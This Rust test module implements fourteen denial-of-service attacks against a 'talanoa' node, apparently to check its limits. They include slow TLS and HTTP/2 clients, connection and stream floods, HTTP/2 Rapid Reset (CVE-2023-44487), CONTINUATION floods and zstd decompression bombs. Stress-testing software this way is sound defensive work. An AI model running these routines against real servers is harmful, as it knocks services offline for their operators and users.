//! Fourteen ways to hurt a node from outside or as a malicious member, each until it is told to stop.
//!
//! Each is paced: it shares two processors with its victim, and would otherwise measure only that. The rates
//! are far beyond what honest peers do and enough to bring down a node without limits.

use std::{
    future::Future,
    pin::Pin,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use ed25519_dalek::SigningKey;
use prost::Message;
use talanoa_client::session::Session;
use talanoa_proto::wire;
use tokio::{io::AsyncWriteExt, task::JoinSet, time::sleep};

use talanoa_tests::http2::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, Victim, call, claiming,
    frame, grpc, header_block,
};

/// Runs for ever; counts its rounds.
pub type Attack = fn(Victim, Arc<AtomicU64>) -> Pin<Box<dyn Future<Output = ()> + Send>>;

pub const ALL: &[(&str, Attack)] = &[
    ("slow handshakes", |v, n| Box::pin(slow_handshakes(v, n))),
    ("connection flood", |v, n| Box::pin(connection_flood(v, n))),
    ("half-open connections", |v, n| Box::pin(half_open(v, n))),
    ("refused handshakes", |v, n| Box::pin(refused_handshakes(v, n))),
    ("slow readers", |v, n| Box::pin(slow_readers(v, n))),
    ("slow writers", |v, n| Box::pin(slow_writers(v, n))),
    ("header floods", |v, n| Box::pin(header_floods(v, n))),
    ("huge lengths", |v, n| Box::pin(huge_lengths(v, n))),
    ("rapid reset", |v, n| Box::pin(rapid_reset(v, n))),
    ("ping and settings flood", |v, n| Box::pin(ping_flood(v, n))),
    ("thousands of streams", |v, n| Box::pin(stream_flood(v, n))),
    ("compressed bombs", |v, n| Box::pin(compressed_bombs(v, n))),
    ("misplaced objects", |v, n| Box::pin(misplaced_objects(v, n))),
    ("garbage", |v, n| Box::pin(garbage(v, n))),
];

fn count(rounds: &AtomicU64) {
    rounds.fetch_add(1, Ordering::Relaxed);
}

/// Sixty-four ClientHellos that never end, one byte ten times a second; dropped ones begin anew.
async fn slow_handshakes(victim: Victim, rounds: Arc<AtomicU64>) {
    let mut tasks = JoinSet::new();
    for _ in 0..64 {
        let (victim, rounds) = (victim.clone(), Arc::clone(&rounds));
        tasks.spawn(async move {
            loop {
                count(&rounds);
                let Ok(mut tcp) = victim.tcp().await else {
                    sleep(Duration::from_millis(100)).await;
                    continue;
                };
                // A TLS record header that promises 16 KiB of handshake.
                let mut bytes =
                    [0x16, 3, 1, 0x40, 0, 1, 0, 0x3f, 0xfc].into_iter().chain(std::iter::repeat(0));
                while tcp.write_u8(bytes.next().unwrap_or(0)).await.is_ok() {
                    sleep(Duration::from_millis(100)).await;
                }
            }
        });
    }
    while tasks.join_next().await.is_some() {}
}

/// Two hundred a second, never a byte, five hundred held.
async fn connection_flood(victim: Victim, rounds: Arc<AtomicU64>) {
    let mut held = std::collections::VecDeque::new();
    loop {
        if let Ok(tcp) = victim.tcp().await {
            count(&rounds);
            held.push_back(tcp);
        }
        if held.len() > 500 {
            held.pop_front();
        }
        sleep(Duration::from_millis(5)).await;
    }
}

/// A member that shakes hands and says nothing more, twenty times a second.
async fn half_open(victim: Victim, rounds: Arc<AtomicU64>) {
    let mut held = std::collections::VecDeque::new();
    loop {
        if let Some(tls) = victim.tls(&victim.member).await {
            count(&rounds);
            held.push_back(tls);
        }
        if held.len() > 64 {
            held.pop_front();
        }
        sleep(Duration::from_millis(50)).await;
    }
}

/// A key that no identity delegates, twenty full handshakes a second.
async fn refused_handshakes(victim: Victim, rounds: Arc<AtomicU64>) {
    let stranger = SigningKey::from_bytes(&[99; 32]);
    loop {
        let _ = victim.tls(&stranger).await;
        count(&rounds);
        sleep(Duration::from_millis(50)).await;
    }
}

/// All connections and streams that a member may have, each asking for everything, none reading: a window
/// of nothing, and a socket that nobody empties.
async fn slow_readers(victim: Victim, rounds: Arc<AtomicU64>) {
    let follow = wire::FollowRequest {
        cursor: Some(wire::Cursor { epoch: 1, step: 0, after: 0 }),
        purpose: "official-statistics".into(),
        ..wire::FollowRequest::default()
    };
    let body = grpc(false, &follow.encode_to_vec());
    loop {
        let mut held = Vec::new();
        for _ in 0..4 {
            let Some(mut stream) = victim.http2_unread(&[(4, 0)]).await else { continue };
            for n in 0..16 {
                let id = 2 * n + 1;
                let _ = stream.write_all(&frame(HEADERS, END_HEADERS, id, &call("Follow", &[]))).await;
                let _ = stream.write_all(&frame(DATA, END_STREAM, id, &body)).await;
                count(&rounds);
            }
            let _ = stream.flush().await;
            held.push(stream);
        }
        sleep(Duration::from_secs(2)).await;
    }
}

/// Requests that arrive one byte a tenth of a second and never end, on every stream.
async fn slow_writers(victim: Victim, rounds: Arc<AtomicU64>) {
    loop {
        if let Some(mut write) = victim.http2(&[]).await {
            for n in 0..16 {
                let _ = write.write_all(&frame(HEADERS, END_HEADERS, 2 * n + 1, &call("Deliver", &[]))).await;
            }
            // A message of 200 KiB is announced.
            let head = [0, 0, 3, 0x20, 0];
            for n in 0..5_000u32 {
                let byte = head.get((n / 16) as usize).copied().unwrap_or(0);
                if write.write_all(&frame(DATA, 0, 2 * (n % 16) + 1, &[byte])).await.is_err() {
                    break;
                }
                let _ = write.flush().await;
                count(&rounds);
                sleep(Duration::from_millis(6)).await;
            }
        }
        sleep(Duration::from_millis(100)).await;
    }
}

/// Header lists of 64 KiB, then headers that never end (CONTINUATION without END_HEADERS).
async fn header_floods(victim: Victim, rounds: Arc<AtomicU64>) {
    let long = "x".repeat(8 * 1024);
    let many: Vec<(&str, &str)> = (0..8).map(|_| ("x-long", long.as_str())).collect();
    loop {
        if let Some(mut write) = victim.http2(&[]).await {
            let block = [call("Hello", &[]), header_block(&many)].concat();
            let mut parts = block.chunks(16 * 1024);
            let _ = write.write_all(&frame(HEADERS, 0, 1, parts.next().unwrap_or_default())).await;
            for part in parts {
                let _ = write.write_all(&frame(CONTINUATION, 0, 1, part)).await;
            }
            for _ in 0..1000 {
                let more = header_block(&[("x-more", "y")]);
                if write.write_all(&frame(CONTINUATION, 0, 1, &more)).await.is_err() {
                    break;
                }
                count(&rounds);
            }
            let _ = write.flush().await;
        }
        sleep(Duration::from_millis(50)).await;
    }
}

/// Frames and messages that announce megabytes and gigabytes; no byte follows.
async fn huge_lengths(victim: Victim, rounds: Arc<AtomicU64>) {
    loop {
        if let Some(mut write) = victim.http2(&[]).await {
            for n in 0..8 {
                let id = 2 * n + 1;
                let _ = write.write_all(&frame(HEADERS, END_HEADERS, id, &call("Deliver", &[]))).await;
                let _ = write.write_all(&frame(DATA, 0, id, &[0, 0xff, 0xff, 0xff, 0xff])).await;
                count(&rounds);
            }
            let _ = write.write_all(&frame(HEADERS, END_HEADERS, 99, &call("Deliver", &[]))).await;
            let _ = write.write_all(&claiming(0x00ff_ffff, DATA, 99)).await;
            let _ = write.flush().await;
            sleep(Duration::from_millis(50)).await;
        }
        sleep(Duration::from_millis(50)).await;
    }
}

/// CVE-2023-44487: streams opened and reset at once, a thousand a second.
async fn rapid_reset(victim: Victim, rounds: Arc<AtomicU64>) {
    loop {
        if let Some(mut write) = victim.http2(&[]).await {
            for n in 0..100_000u32 {
                let id = 2 * n + 1;
                let mut both = frame(HEADERS, END_HEADERS, id, &call("Hello", &[]));
                both.extend(frame(RST_STREAM, 0, id, &8u32.to_be_bytes()));
                if write.write_all(&both).await.is_err() {
                    break;
                }
                count(&rounds);
                if n % 20 == 0 {
                    let _ = write.flush().await;
                    sleep(Duration::from_millis(20)).await;
                }
            }
        }
        sleep(Duration::from_millis(50)).await;
    }
}

/// Five thousand pings and settings a second, each of which wants an answer.
async fn ping_flood(victim: Victim, rounds: Arc<AtomicU64>) {
    loop {
        if let Some(mut write) = victim.http2(&[]).await {
            loop {
                let mut many = Vec::new();
                for _ in 0..50 {
                    many.extend(frame(PING, 0, 0, &[7; 8]));
                    many.extend(frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 9]));
                }
                if write.write_all(&many).await.is_err() {
                    break;
                }
                let _ = write.flush().await;
                rounds.fetch_add(100, Ordering::Relaxed);
                sleep(Duration::from_millis(20)).await;
            }
        }
        sleep(Duration::from_millis(50)).await;
    }
}

/// A thousand streams a second that are opened and never ended, far beyond what is allowed at once.
async fn stream_flood(victim: Victim, rounds: Arc<AtomicU64>) {
    loop {
        if let Some(mut write) = victim.http2(&[]).await {
            for n in 0..100_000u32 {
                let headers = frame(HEADERS, END_HEADERS, 2 * n + 1, &call("Deliver", &[]));
                if write.write_all(&headers).await.is_err() {
                    break;
                }
                count(&rounds);
                if n % 20 == 0 {
                    let _ = write.flush().await;
                    sleep(Duration::from_millis(20)).await;
                }
            }
        }
        sleep(Duration::from_millis(50)).await;
    }
}

/// Messages flagged as compressed: a few bytes that would become a gigabyte.
async fn compressed_bombs(victim: Victim, rounds: Arc<AtomicU64>) {
    // Zstandard: a frame of one run-length block of 128 KiB after the other.
    let mut bomb = vec![0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x88];
    (0..8000).for_each(|_| bomb.extend([0x02, 0x00, 0x10, 0x00]));
    loop {
        if let Some(mut write) = victim.http2(&[]).await {
            for (n, encoding) in ["gzip", "zstd", "deflate", "identity"].into_iter().enumerate() {
                let id = 2 * n as u32 + 1;
                let headers = call("Deliver", &[("grpc-encoding", encoding)]);
                let _ = write.write_all(&frame(HEADERS, END_HEADERS, id, &headers)).await;
                for part in grpc(true, &bomb).chunks(16 * 1024) {
                    let _ = write.write_all(&frame(DATA, 0, id, part)).await;
                }
                count(&rounds);
            }
            let _ = write.flush().await;
        }
        sleep(Duration::from_millis(50)).await;
    }
}

/// Well-formed calls that make no sense: a hello where a grant should be, an empty proof, other's cursors.
async fn misplaced_objects(victim: Victim, rounds: Arc<AtomicU64>) {
    let keys = [talanoa_proto::id::PublicKey(victim.key)];
    let hello = || wire::HelloRequest {
        protocol: 1,
        federation_id: victim.federation.clone(),
        checkpoint: bytes::Bytes::from_static(b"not a note"),
        your_checkpoint: bytes::Bytes::from_static(b"talanoa/00/1\n5\nAAAA\n\n"),
        endpoint: vec![1; 4000].into(),
        ..wire::HelloRequest::default()
    };
    let address = victim.address.to_string();
    loop {
        if let Ok(mut session) = Session::dial(&address, &victim.member, &keys).await {
            for n in 0..50u64 {
                let answer = session.hello(hello()).await;
                let seen = answer.map(|a| (a.checkpoint, a.endpoint)).unwrap_or_default();
                // Their own endpoint and checkpoint, brought back as a receipt of ours.
                let entry =
                    wire::Entry { index: n, salt: vec![1; 32].into(), envelope: seen.1, inclusion: vec![] };
                let head = wire::Head { checkpoint: seen.0, ..wire::Head::default() };
                let _ = session.deliver(wire::DeliverRequest { head: Some(head), entry: Some(entry) }).await;
                let cursor = Some(wire::Cursor { epoch: 7, step: u64::MAX, after: n });
                let _ = session.follow(wire::FollowRequest { cursor, ..Default::default() }).await;
                let _ = session.fetch(wire::FetchRequest::default()).await;
                let _ = session.recover(wire::RecoverRequest { indexes: vec![n, u64::MAX] }).await;
                count(&rounds);
                sleep(Duration::from_millis(10)).await;
            }
        }
        sleep(Duration::from_millis(50)).await;
    }
}

/// Random bytes instead of TLS, a hundred connections a second.
async fn garbage(victim: Victim, rounds: Arc<AtomicU64>) {
    let bytes: Vec<u8> = (0..4096u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    loop {
        if let Ok(mut tcp) = victim.tcp().await {
            let _ = tcp.write_all(&bytes).await;
            count(&rounds);
        }
        sleep(Duration::from_millis(10)).await;
    }
}
